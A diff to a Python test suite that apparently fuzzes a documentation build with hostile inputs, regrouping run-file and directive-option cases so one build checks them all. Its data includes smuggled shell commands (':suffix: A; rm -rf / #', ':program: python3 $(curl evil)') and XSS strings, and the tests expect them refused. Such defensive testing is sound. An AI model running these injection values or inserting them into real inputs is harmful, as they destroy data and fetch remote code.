@@ -529,39 +529,11 @@ def _json_put(root: Path, rel: str, path: tuple, raw: str) -> None:
     (root / rel).write_text(json.dumps(doc, indent=1).replace('"@@RAW@@"', raw), encoding="utf-8")
 
 
-def _listing(options: str, run: str = "tiny-pending") -> Callable[[Path], str]:
-    def mutate(root: Path) -> str:
-        _append(root, VALUES_PAGE, f"\n```{{listing}} {run}\n{options}\n```\n")
-        return VALUES_PAGE
-    return mutate
-
-
-def _run_command(options: str) -> Callable[[Path], str]:
-    def mutate(root: Path) -> str:
-        _append(root, VALUES_PAGE, f"\n```{{run-command}} tiny-pending\n{options}\n```\n")
-        return VALUES_PAGE
-    return mutate
-
-
 def _steps_duplicated(root: Path) -> str:
     rel = f"{REC}/steps.jsonl"
     lines = (root / rel).read_text(encoding="utf-8").splitlines()
     (root / rel).write_text("\n".join([*lines, lines[0]]) + "\n", encoding="utf-8")
     return rel
-
-
-def _run_file(text: str) -> Callable[[Path], str]:
-    def mutate(root: Path) -> str:
-        (root / "capture" / "runs" / "hostile.yaml").write_text(text, encoding="utf-8")
-        return "capture/runs/hostile.yaml"
-    return mutate
-
-
-def _run_file_bytes(raw: bytes) -> Callable[[Path], str]:
-    def mutate(root: Path) -> str:
-        (root / "capture" / "runs" / "hostile.yaml").write_bytes(raw)
-        return "capture/runs/hostile.yaml"
-    return mutate
 
 
 def _interrupted_commit(root: Path) -> str:
@@ -607,31 +579,11 @@ HOSTILE: list[tuple[str, str, Callable[[Path], str]]] = [
     ("recording", "a commit cut short between its renames", _interrupted_commit),
     ("recording", "a directory that is not a run id",
      lambda r: (shutil.copytree(r / REC, r / "capture/gpu/Not A Run"), "capture/gpu/Not A Run/run.json")[1]),
-    # run files
-    ("run file", "YAML alias bomb", _run_file(BOMB)),
-    ("run file", "deep nesting", _run_file("id: hostile\nargs: " + "[" * 5000 + "]" * 5000 + "\n")),
-    ("run file", "5,000-digit integer", _run_file(f"id: hostile\nsteps: {BIG}\n")),
-    ("run file", "not UTF-8", _run_file_bytes("id: hostile\n".encode("utf-16"))),
-    ("run file", "FIFO", lambda r: (_fifo(r, "capture/runs/hostile.yaml"), "capture/runs/hostile.yaml")[1]),
-    ("run file", "a directory", lambda r: ((r / "capture/runs/hostile.yaml").mkdir(), "capture/runs/hostile.yaml")[1]),
-    ("run file", "a symlink loop", lambda r: ((r / "capture/runs/hostile.yaml").symlink_to("hostile.yaml"),
-                                              "capture/runs/hostile.yaml")[1]),
-    ("run file", "a flag Miles lacks (published on the page today)",
-     lambda r: (_replace(r, "capture/runs/tiny-pending.yaml", "args: [--colocate,", "args: [--colocate, --no-such-flag,"),
-                "capture/runs/tiny-pending.yaml")[1]),
-    # pages and directive options
+    # pages
     ("page", "not UTF-8", lambda r: ((r / PAGE).write_bytes((r / PAGE).read_bytes() + b"\n\xff\xfe bad\n"), PAGE)[1]),
     ("page", "raw HTML", lambda r: (_append(r, PAGE, "\nHi <img src=x onerror=alert(1)> there.\n"), PAGE)[1]),
     ("page", "raw HTML block", lambda r: (_append(r, PAGE, "\n<script>alert(1)</script>\n"), PAGE)[1]),
     ("page", "unclosed role", lambda r: (_append(r, PAGE, "\nSet {flag}`--colocate and go on.\n"), PAGE)[1]),
-    ("{listing} of a pending run", "text where a range goes", _listing(":lines: abc")),
-    ("{listing} of a pending run", "reversed range", _listing(":lines: 5-2")),
-    ("{listing} of a pending run", "zero", _listing(":lines: 0")),
-    ("{listing} of a pending run", "text where a number goes", _listing(":head: many")),
-    ("{listing} of a pending run", "bad pattern", _listing(":grep: (unclosed")),
-    ("{listing} of a recorded run", "range past the end", _listing(":lines: 3-9", RUN_REC)),
-    ("{run-command}", "shell injection", _run_command(":suffix: A; rm -rf / #")),
-    ("{run-command}", "command substitution", _run_command(":program: python3 $(curl evil)")),
 ]
 HOSTILE_IDS = [f"{kind}: {cls}" for kind, cls, _ in HOSTILE]
 
@@ -676,6 +628,79 @@ def test_both_gates_refuse_hostile_input(fuzz_root: Path, tmp_path: Path, case: 
     html = published(root)
     for bad in (OUTSIDE, "<img src=x onerror", "<script>alert", "rm -rf", "$(curl", "--no-such-flag"):
         assert bad not in html, f"_build/html publishes {bad!r} for {kind}: {cls}"
+
+
+#: Cases that share one build: each breaks its own file (run files) or its own block of one page
+#: (directive options), so one run of both gates answers them all; each must be named at its own place.
+RUN_FILES: list[tuple[str, bytes]] = [
+    ("YAML alias bomb", BOMB.encode()), ("deep nesting", b"id: x\nargs: " + b"[" * 5000 + b"]" * 5000 + b"\n"),
+    ("5,000-digit integer", f"id: x\nsteps: {BIG}\n".encode()), ("not UTF-8", "id: x\n".encode("utf-16")),
+    ("FIFO", b""), ("a directory", b""), ("a symlink loop", b""),
+]
+OPTIONS: list[tuple[str, str, str, str]] = [
+    ("listing", "tiny-pending", ":lines: abc", "is not a line or a range"),
+    ("listing", "tiny-pending", ":lines: 5-2", "is reversed"),
+    ("listing", "tiny-pending", ":lines: 0", "lines count from 1"),
+    ("listing", "tiny-pending", ":head: many", "is not a positive whole number"),
+    ("listing", "tiny-pending", ":grep: (unclosed", "bad :grep: pattern"),
+    ("listing", RUN_REC, ":lines: 3-9", "past the end"),
+    ("run-command", "tiny-pending", ":suffix: A; rm -rf / #", "a command separator"),
+    ("run-command", "tiny-pending", ":program: python3 $(curl evil)", "a command substitution"),
+    ("run-command", "tiny-pending", ":array: X;rm", "not a shell variable name"),
+]
+
+
+def both_gates(root: Path) -> list[tuple[str, str]]:
+    """(gate, output) of both gates, each refusing, with no traceback and a fix."""
+    out = []
+    for gate, fn in (("--check", run_check), ("the build", run_build)):
+        result = timed(fn, root)
+        text = result.out.replace(str(root) + "/", "")
+        assert result.code != 0, f"{gate} accepts it:\n{text[-3000:]}"
+        assert not any(c in text for c in CRASH), f"{gate} crashes:\n{text[-5000:]}"
+        assert "Fix:" in text, f"{gate} gives no fix:\n{text[-3000:]}"
+        out.append((gate, text))
+    return out
+
+
+def test_run_files_of_every_hostile_class_share_one_build(fuzz_root: Path, tmp_path: Path) -> None:
+    root = fresh(fuzz_root, tmp_path)
+    runs = root / "capture" / "runs"
+    names = []
+    for n, (cls, raw) in enumerate(RUN_FILES):
+        path = runs / f"hostile-{n}.yaml"
+        if cls == "FIFO":
+            os.mkfifo(path)
+        elif cls == "a directory":
+            path.mkdir()
+        elif cls == "a symlink loop":
+            path.symlink_to(path.name)
+        else:
+            path.write_bytes(raw)
+        names.append((cls, f"capture/runs/hostile-{n}.yaml"))
+    _replace(root, "capture/runs/tiny-pending.yaml", "args: [--colocate,", "args: [--colocate, --no-such-flag,")
+    names.append(("a flag Miles lacks", "capture/runs/tiny-pending.yaml"))
+    for gate, out in both_gates(root):
+        for cls, rel in names:
+            assert names_place(out, rel), f"{gate} does not name {rel} ({cls}) and a place:\n{out[-3000:]}"
+    assert "--no-such-flag" not in published(root)
+
+
+def test_directive_options_of_every_hostile_class_share_one_build(fuzz_root: Path, tmp_path: Path) -> None:
+    """Checked whether the run is pending or recorded; each block named at its own line, with its own reason."""
+    root = fresh(fuzz_root, tmp_path)
+    lines = (root / VALUES_PAGE).read_text(encoding="utf-8").count("\n")
+    at = []
+    for name, run, option, _ in OPTIONS:
+        _append(root, VALUES_PAGE, f"\n```{{{name}}} {run}\n{option}\n```\n")
+        at.append(lines + 2)
+        lines += 4
+    for gate, out in both_gates(root):
+        for (name, run, option, says), line in zip(OPTIONS, at):
+            hits = [ln for ln in out.splitlines() if f"{VALUES_PAGE}:{line}:" in ln and says in ln]
+            assert hits, f"{gate} does not name {VALUES_PAGE}:{line} ({name} {run} {option}: {says}):\n{out[-4000:]}"
+    html = published(root)
+    assert "rm -rf" not in html and "$(curl" not in html
 
 
 def test_a_corrupt_flags_json_names_the_root_cause_once(fuzz_root: Path, tmp_path: Path) -> None:
